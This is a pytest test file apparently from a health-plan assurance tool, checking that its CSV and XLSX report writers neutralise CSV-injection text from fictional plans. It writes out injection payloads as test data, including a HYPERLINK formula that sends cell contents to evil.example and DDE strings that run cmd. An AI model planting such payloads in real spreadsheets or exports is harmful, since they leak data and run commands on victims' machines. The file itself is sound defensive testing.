"""No plan text becomes a live formula in any CSV or XLSX the product writes (CSV injection,
as OWASP describes it): each writer is run on a fictional plan whose scheme names, board and
positions begin with "=", "+", "-", "@", a tab or a carriage return, and the output is read back.
"""

from __future__ import annotations

import csv
import dataclasses
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bettercare.frameworks import load_framework
from bettercare.pipeline import assure_file
from bettercare.report.actions_xlsx import actions_workbook
from bettercare.report.cells import safe_cell, safe_text
from bettercare.report.part2_template import part2_template
from bettercare.report.summary_csv import summary_csv, summary_row
from tests.conftest import EXAMPLES
from tests.fictional import ASSESSED_ON, variant
from tests.test_cli import run

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+Millbrook City Council"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-5"
# Every start OWASP names; a tab or CR cannot survive a .txt plan (they split cells and
# lines), so those two are set on the extracted plan and run through the same writers.
PAYLOADS = [HYPERLINK, DDE, PLUS, AT, MINUS, "\t=1+1", "\r=1+1"]
EXPENDITURE = "3. HWB Expenditure Plan"


def hostile_plan(folder: Path, name: str = "millbrook.txt") -> Path:
    """The clean fictional plan with formula-like text where the plan names things."""
    text = variant(
        [
            ("A\tNeighbourhood care teams", "A\t" + HYPERLINK),
            ("B\tSeven day discharge team", "B\t" + MINUS),
            (
                "Health and Wellbeing Board\tMillbrook Health and Wellbeing Board",
                "Health and Wellbeing Board\t" + AT,
            ),
            ("Local Authority\tMillbrook City Council", "Local Authority\t" + PLUS),
            ("Position\tChief Executive", "Position\t" + DDE),
        ]
    )
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_text_neutralises_every_formula_start(payload: str) -> None:
    assert safe_text(payload) == "'" + payload
    assert safe_cell(payload) == "'" + payload


def test_safe_text_leaves_plain_text_numbers_and_dates() -> None:
    assert safe_text("Neighbourhood care teams") == "Neighbourhood care teams"
    assert safe_text("") == ""
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5
    assert safe_cell(ASSESSED_ON) == ASSESSED_ON
    assert safe_cell(None) is None
    assert safe_cell("=x\x00\x07") == "'=x"  # characters an .xlsx cannot hold are dropped


def test_the_fictional_plan_really_carries_the_payloads(tmp_path: Path) -> None:
    """The guard of the tests below: extraction keeps the hostile text as written."""
    assured = assure_file(hostile_plan(tmp_path), on=ASSESSED_ON)
    assert assured.plan.health_and_wellbeing_board == AT
    assert assured.plan.local_authorities == [PLUS]
    assert [s.name for s in assured.plan.schemes] == [HYPERLINK, MINUS]
    assert DDE in [s.position for s in assured.plan.signatories]


# ------------------------------------------------------------------------- Part 2 template
def _assert_text(cell: object, payload: str) -> None:
    assert cell.value == "'" + payload  # type: ignore[attr-defined]
    assert cell.data_type == "s"  # type: ignore[attr-defined]


def test_part2_template_prefilled_from_a_hostile_plan_has_no_formula_from_it(
    tmp_path: Path,
) -> None:
    out = tmp_path / "part2.xlsx"
    result = run("template", "part2", str(out), "--plan", str(hostile_plan(tmp_path)))
    assert result.returncode == 0, result.stderr
    book = load_workbook(out)
    cover = book["1. Cover"]
    cells = {cover.cell(row=row, column=1).value: cover.cell(row=row, column=2) for row in (4, 5)}
    _assert_text(cells["Health and Wellbeing Board"], AT)
    spend = book[EXPENDITURE]  # header row 5; schemes from row 6
    _assert_text(spend["B6"], HYPERLINK)
    _assert_text(spend["B7"], MINUS)
    assert spend["A6"].value == "A" and spend["A6"].data_type == "s"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":  # only the template's own formulas
                    assert sheet.title in ("Checklist", "7. Metric Trends"), cell.coordinate
    # The template's own formulas are still formulas.
    checklist = book["Checklist"]
    statuses = [row[2] for row in checklist.iter_rows(min_row=4)]
    assert statuses and all(c.data_type == "f" for c in statuses)
    assert statuses[0].value.startswith("=IF(")
    trends = book["7. Metric Trends"]
    assert trends["B5"].data_type == "f" and trends["D5"].data_type == "f"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_part2_template_neutralises_each_start(tmp_path: Path, payload: str) -> None:
    plan = assure_file(hostile_plan(tmp_path), on=ASSESSED_ON).plan
    schemes = [plan.schemes[0].model_copy(update={"name": payload}), *plan.schemes[1:]]
    plan = plan.model_copy(
        update={
            "health_and_wellbeing_board": payload,
            "local_authorities": [payload],
            "ccgs": [payload],
            "schemes": schemes,
        }
    )
    book = load_workbook(BytesIO(part2_template(load_framework(), plan)))
    _assert_text(book["1. Cover"]["B4"], payload)
    _assert_text(book[EXPENDITURE]["B6"], payload)
    ccgs = [c for row in book["1. Cover"].iter_rows() for c in row if c.value == "'" + payload]
    assert len(ccgs) == 3  # the board, the councils and the CCGs
    assert book["Checklist"]["C4"].data_type == "f"


# ------------------------------------------------------------------------- action plan
def test_action_plan_workbook_writes_review_notes_and_board_as_text(tmp_path: Path) -> None:
    review = tmp_path / "review.yaml"
    review.write_text(
        "reviewer: A. Assurer\nactions:\n"
        f"  - risk: F3\n    discussion_notes: '{HYPERLINK.replace(chr(39), chr(39) * 2)}'\n"
        f"    support: '{MINUS}'\n",
        encoding="utf-8",
    )
    plan = tmp_path / "riverton.txt"
    plan.write_text(
        (EXAMPLES / "riverton-2014-revised.txt")
        .read_text("utf-8")
        .replace("Riverton Health and Wellbeing Board", AT),
        encoding="utf-8",
    )
    out = tmp_path / "out"
    result = run(
        "assure", str(plan), "--review", str(review), "--out", str(out), "--on", "2014-10-20"
    )
    assert result.returncode == 0, result.stderr
    sheet = load_workbook(out / "riverton.actions.xlsx")["Action plan"]
    header = [c.value for c in sheet[3]]
    row = next(r for r in sheet.iter_rows(min_row=4) if r[header.index("Risk code")].value == "F3")
    _assert_text(row[header.index("Notes of discussion with HWB and area team")], HYPERLINK)
    _assert_text(row[header.index("Skills / support needed")], MINUS)
    assert row[0].data_type == "n"  # the priority is still a number
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_action_plan_workbook_neutralises_each_start(tmp_path: Path, payload: str) -> None:
    assured = assure_file(EXAMPLES / "riverton-2014-revised.txt", on=ASSESSED_ON)
    actions = [
        action.model_copy(update={"reasoning": payload, "owner": payload, "action": payload})
        for action in assured.assessment.actions
    ]
    assessment = assured.assessment.model_copy(update={"actions": actions})
    data = actions_workbook(assessment, load_framework(), payload)
    sheet = load_workbook(BytesIO(data))["Action plan"]
    header = [c.value for c in sheet[3]]
    for column in ("Reviewer's reasoning", "Owner", "Action required"):
        _assert_text(sheet.cell(row=4, column=header.index(column) + 1), payload)
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)


# ------------------------------------------------------------------------- summary.csv
def test_batch_summary_csv_quotes_and_neutralises_plan_text(tmp_path: Path) -> None:
    folder = tmp_path / "plans"
    folder.mkdir()
    hostile_plan(folder, "=1+1.txt")  # a file name is text from outside too
    out = tmp_path / "out"
    result = run("assure", str(folder), "--out", str(out), "--jobs", "1", "--on", "2014-10-20")
    assert result.returncode in (0, 1), result.stderr
    raw = (out / "summary.csv").read_text(encoding="utf-8")
    (row,) = list(csv.DictReader(raw.splitlines()))
    assert row["health_and_wellbeing_board"] == "'" + AT
    assert row["file"] == "'=1+1.txt"
    assert f'"\'{AT}"' in raw  # quoted, as OWASP advises
    assert ",0," in raw  # counts are numbers, unquoted


@pytest.mark.parametrize("payload", PAYLOADS)
def test_summary_csv_neutralises_each_start(tmp_path: Path, payload: str) -> None:
    assured = assure_file(hostile_plan(tmp_path), on=ASSESSED_ON)
    plan = assured.plan.model_copy(update={"health_and_wellbeing_board": payload})
    assured = dataclasses.replace(assured, plan=plan)
    text = summary_csv([summary_row(payload, assured, "x.assurance.json")])
    (row,) = list(csv.DictReader(text.splitlines(keepends=True)))
    assert row["health_and_wellbeing_board"] == "'" + payload
    assert row["file"] == "'" + payload
